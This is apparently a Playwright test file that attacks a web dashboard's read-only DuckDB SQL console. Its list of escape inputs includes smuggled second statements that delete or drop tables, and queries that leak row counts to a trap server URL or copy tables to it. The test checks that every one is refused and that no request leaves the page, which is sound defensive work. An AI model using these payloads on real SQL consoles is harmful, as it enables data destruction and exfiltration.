import { createServer, type Server } from 'node:http';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { BrowserContext, Page } from 'playwright-core';
import { digits, kpiValue, SHOTS, useServedApp } from '../helpers/served-app';

/**
 * Console escapes against the built app (issue 7), tried as an attacker would. The page's
 * Content-Security-Policy is bypassed here, so what stops each input is the console and the locked engine
 * alone; a loopback server started by the test counts every connection that reaches it.
 */
const MULTIPLE = '一次只能运行一条语句';
const NOT_READ_ONLY = '只允许只读查询';
const EXTERNAL = '不能读取文件或网址';
const SYNTAX = '语法错误，或不是一条只读查询';

const ESCAPES: [string, string][] = [
  // the inputs that got through the first scanner: E'…' escapes, dollar quoting, nested comments
  ["SELECT E'\\'' AS s; DELETE FROM cases; SELECT E'\\''", MULTIPLE],
  ["SELECT $$ ' $$ AS a; DROP TABLE cases; SELECT ' ' AS b", MULTIPLE],
  ["SELECT $x$ ' $x$ AS a; CREATE TABLE pwned AS SELECT 1; SELECT ' ' AS b", MULTIPLE],
  ["SELECT 1 AS a /* /* */ ' */; DROP TABLE patrol_points; SELECT 1 AS b --'", MULTIPLE],
  [
    "SELECT 1; SET VARIABLE u = '{trap}/leak?n=' || (SELECT count(*) FROM cases); SELECT * FROM read_text(getvariable('u'))",
    MULTIPLE,
  ],
  ['SELECT 1; DELETE FROM cases', MULTIPLE],
  ["SET VARIABLE u = '{trap}/leak?n=' || (SELECT count(*) FROM cases)", NOT_READ_ONLY],
  ['INSTALL httpfs', NOT_READ_ONLY],
  ['LOAD httpfs', NOT_READ_ONLY],
  ["ATTACH '{trap}/remote.db' AS remote", NOT_READ_ONLY],
  ["ATTACH ':memory:' AS scratch", NOT_READ_ONLY],
  ["COPY cases TO '{trap}/upload.csv'", NOT_READ_ONLY],
  ["COPY (SELECT * FROM cases) TO 'registered/out.csv'", NOT_READ_ONLY],
  ["EXPORT DATABASE 'registered/dump'", NOT_READ_ONLY],
  ['SET enable_external_access = true', NOT_READ_ONLY],
  ['RESET lock_configuration', NOT_READ_ONLY],
  ['PRAGMA enable_profiling', NOT_READ_ONLY],
  ['DELETE FROM cases', NOT_READ_ONLY],
  ['DROP TABLE cases', NOT_READ_ONLY],
  ["SELECT * FROM read_text('{trap}/x')", EXTERNAL],
  ["SELECT * FROM read_csv('{trap}/x.csv')", EXTERNAL],
  ["FROM '{trap}/x.csv'", EXTERNAL],
  ["SELECT * FROM read_text('{trap}/' || 'built')", EXTERNAL],
  ["FROM read_text('{tls}/x')", EXTERNAL],
  ["FROM 's3://outreach-bucket/cases.csv'", EXTERNAL],
  ["FROM read_text('registered/../index.html')", EXTERNAL],
  ["FROM query('DELETE FROM cases')", SYNTAX],
  ['WITH d AS (DELETE FROM cases RETURNING *) SELECT * FROM d', SYNTAX],
];

const CENSUS = `SELECT (SELECT count(*) FROM cases) AS cases, (SELECT count(*) FROM patrol_points) AS patrols,
  (SELECT count(*) FROM import_rejects) AS rejects, (SELECT count(*) FROM duckdb_tables()) AS tables`;

/** Types `text` into the console, runs it and returns the error banner's text, or the result's cells. */
async function runInConsole(page: Page, text: string): Promise<{ error: string | null; cells: string[] }> {
  const panel = page.locator('.sql-console');
  const before = Number(await panel.getAttribute('data-finished'));
  await page.getByRole('textbox', { name: 'SQL 查询（只读）' }).fill(text);
  await page.getByRole('button', { name: '运行', exact: true }).click();
  await expect
    .poll(async () => Number(await panel.getAttribute('data-finished')), { timeout: 60_000 })
    .toBe(before + 1);
  const error = page.getByTestId('sql-error');
  if (await error.count()) return { error: await error.innerText(), cells: [] };
  return { error: null, cells: await page.getByTestId('sql-result').locator('tbody td').allInnerTexts() };
}

describe('the SQL console against the built app', () => {
  const app = useServedApp();
  let trap: Server;
  let trapUrl = '';
  let connections = 0;
  let connectionsAfterProbe = 0;
  let context: BrowserContext;
  let page: Page;
  const foreign: string[] = [];

  beforeAll(async () => {
    trap = createServer((_, res) => res.end('a,b\n1,2\n'));
    trap.on('connection', () => connections++);
    await new Promise<void>((resolve) => trap.listen(0, '127.0.0.1', resolve));
    const address = trap.address();
    trapUrl = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
  });
  afterAll(async () => {
    await context?.close();
    await new Promise((resolve) => trap.close(resolve));
  });

  it('refuses every escape with a clear message; nothing changes and no request leaves', async () => {
    context = await app.browser.newContext({
      bypassCSP: true,
      locale: 'zh-CN',
      viewport: { width: 1280, height: 900 },
    });
    const origin = new URL(app.url).origin;
    context.on('request', (r) => {
      if (!r.url().startsWith(origin) && !r.url().startsWith('data:')) foreign.push(r.url());
    });
    page = await context.newPage();
    await page.goto(`${app.url}?view=sql`);
    const first = await runInConsole(page, CENSUS);
    expect(first.error).toBeNull();
    const census = first.cells;
    expect(Number(census[0])).toBeGreaterThan(1000);

    for (const [template, message] of ESCAPES) {
      const text = template.replaceAll('{trap}', trapUrl).replaceAll('{tls}', trapUrl.replace('http:', 'https:'));
      const out = await runInConsole(page, text);
      expect(out.error, text).toContain(message);
    }
    await page.screenshot({ path: path.join(SHOTS, 'sql-console-refusal.png') });

    expect((await runInConsole(page, CENSUS)).cells).toEqual(census);
    await page.reload();
    expect((await runInConsole(page, CENSUS)).cells).toEqual(census);
    expect(connections).toBe(0);
    expect(foreign).toEqual([]);

    // The loopback server was reachable from this page all along (the policy is bypassed here).
    await page.evaluate((u) => fetch(`${u}/reachable`, { mode: 'no-cors' }).then(() => undefined), trapUrl);
    expect(connections).toBeGreaterThan(0);
    connectionsAfterProbe = connections;
  });

  it('a runaway query shows a cancel button and its time limit, the dashboard says it waits, cancel stops it', async () => {
    await page.goto(`${app.url}?view=overview`);
    const allEpisodes = digits(await kpiValue(page, 'kpi-episodes'));
    await page.getByRole('tab', { name: 'SQL 查询' }).click();
    await page
      .getByRole('textbox', { name: 'SQL 查询（只读）' })
      .fill('SELECT count(*) FROM range(CAST(1e12 AS BIGINT))');
    await page.getByRole('button', { name: '运行', exact: true }).click();
    await expect.poll(() => page.getByTestId('sql-status').innerText()).toMatch(/正在运行… 已用 \d+ 秒，上限 60 秒/);
    await page.getByTestId('sql-cancel').waitFor({ timeout: 10_000 });
    await page.screenshot({ path: path.join(SHOTS, 'sql-console-running.png') });

    // Elsewhere the dashboard waits behind the query, and says so.
    await page.getByRole('tab', { name: '总览' }).click();
    await page.getByTestId('period-preset').selectOption('lastYear');
    const note = page.getByTestId('waiting-note');
    await expect.poll(() => note.innerText(), { timeout: 10_000 }).toContain('等待查询完成');
    await page.screenshot({ path: path.join(SHOTS, 'waiting-behind-query.png') });
    await note.getByRole('button', { name: '取消查询' }).click();
    await note.waitFor({ state: 'detached', timeout: 10_000 });
    await expect
      .poll(async () => digits(await page.getByTestId('kpi-episodes').locator('.kpi-value').innerText()), {
        timeout: 60_000,
      })
      .not.toBe(allEpisodes);
    await page.getByRole('tab', { name: 'SQL 查询' }).click();
    expect(await page.getByTestId('sql-error').innerText()).toContain('查询已取消');

    // The time limit stops it too.
    await page.getByTestId('sql-time-limit').selectOption('10');
    const out = await runInConsole(page, 'SELECT count(*) FROM cases a, cases b, cases c');
    expect(out.error).toContain('查询超过时间上限（10 秒）');
    expect(connections).toBe(connectionsAfterProbe);
  });
});
